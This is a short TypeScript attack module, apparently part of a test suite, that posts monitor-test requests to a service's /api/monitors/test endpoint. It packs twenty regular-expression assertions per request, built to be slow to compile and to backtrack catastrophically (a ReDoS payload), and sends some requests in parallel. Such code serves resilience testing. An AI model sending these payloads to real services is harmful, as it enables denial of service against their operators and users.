import type { Attack } from "../attack.ts";
import { countAnswers, post } from "../answers.ts";

const classes = (count: number) => `(?i)${"[Ā-\\u{10FFFF}]".replaceAll("\\u{10FFFF}", "\u{10FFFF}").repeat(count)}`;
const matching = "(?:.*[a-e].*[f-z]){600}[!?]";
const shared = { source: "body", op: "matches" };

/** A user: patterns that are slow to compile, and slow to match, twenty in a test. */
export const patterns: Attack = async ({ url, token, target }) => {
  const answers = countAnswers();
  const test = async (value: string) => {
    const assertions = Array.from({ length: 20 }, () => ({ ...shared, value }));
    answers.add(await post(`${url}/api/monitors/test`, token, { name: "x", url: `${target}/large`, assertions }));
  };
  for (const count of [100, 332, 399]) await test(classes(count));
  for (let n = 0; n < 5; n++) await test(matching);
  await Promise.all(Array.from({ length: 20 }, () => test("(?:.*[a-e].*[f-z]){40}[!?]")));
  return answers.text();
};
